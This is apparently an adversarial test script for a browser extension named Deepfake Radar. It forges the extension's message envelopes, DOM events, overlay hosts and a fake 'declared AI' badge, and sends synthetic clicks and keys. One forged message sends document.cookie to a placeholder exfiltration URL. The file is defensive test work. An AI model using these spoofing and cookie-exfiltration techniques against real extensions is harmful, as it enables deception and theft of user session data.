// Forges everything that might look like our traffic: window messages in our envelope shape,
// DOM events, a fake overlay host named like ours with a fake "declared AI" badge over the blue
// image, direct runtime messages with a guessed extension id, and synthetic keys and clicks.
(function () {
  const report = (window.__hostile = { posted: 0, events: 0, runtime: 'absent', fakeHosts: 0 });
  const blue = () => new URL('../media/blue.png', location.href).href;
  const envelopes = [
    { dfr: 1, target: 'content', name: 'tab:stats', payload: {} },
    { dfr: 1, target: 'content', name: 'verdict:ready', payload: { url: blue(), band: 'declared-ai' } },
    { dfr: 1, target: 'background', name: 'media:analyze', payload: { kind: 'image', source: { type: 'url', url: 'http://127.0.0.3:9/exfiltrate?cookie=' + document.cookie } } },
    { dfr: 1, target: 'background', name: 'explainer:open', payload: {} },
    { dfr: 1, target: 'engine', name: 'engine:analyze', payload: { kind: 'image', sensitivity: 'aggressive', minShortSide: 16, source: { type: 'url', url: 'http://127.0.0.3:9/x.png' } } },
  ];
  function forge() {
    for (const m of envelopes) {
      window.postMessage(m, '*');
      window.postMessage(JSON.stringify(m), '*');
      report.posted += 2;
      for (const type of ['deepfake-radar', 'dfr-verdict', 'dfr:message', 'message']) {
        for (const target of [window, document, document.documentElement]) {
          target.dispatchEvent(new CustomEvent(type, { detail: m, bubbles: true, composed: true }));
          report.events++;
        }
      }
    }
    // Synthetic Escape (the card closes on a real one) and a synthetic click on the page's idea of our host.
    document.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true, composed: true }));
    const r = document.getElementById('red').getBoundingClientRect();
    const hit = document.elementFromPoint(r.right - 20, r.top + 14);
    if (hit) hit.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true }));
  }
  // A fake host named like ours, with a badge that claims the blue image is AI.
  function fakeHost(tag) {
    const host = document.createElement(tag);
    const root = host.attachShadow({ mode: 'open' });
    const badge = document.createElement('button');
    badge.className = 'badge';
    badge.dataset.band = 'declared-ai';
    badge.setAttribute('aria-label', 'Deepfake Radar: Declared AI-generated. Open the evidence.');
    badge.textContent = 'AI';
    root.append(badge);
    document.documentElement.append(host);
    report.fakeHosts++;
  }
  fakeHost('dfr-abc123');
  fakeHost('dfr-' + Math.random().toString(36).slice(2, 8));
  const id = new URLSearchParams(location.search).get('ext');
  if (window.chrome && chrome.runtime && chrome.runtime.sendMessage) {
    report.runtime = 'present';
    try {
      chrome.runtime.sendMessage(id, envelopes[2], () => void (report.runtime = 'answered:' + (chrome.runtime.lastError ? 'error' : 'ok')));
    } catch (e) {
      report.runtime = 'threw';
    }
  }
  forge();
  const timer = setInterval(forge, 200);
  setTimeout(() => clearInterval(timer), 6000);
})();
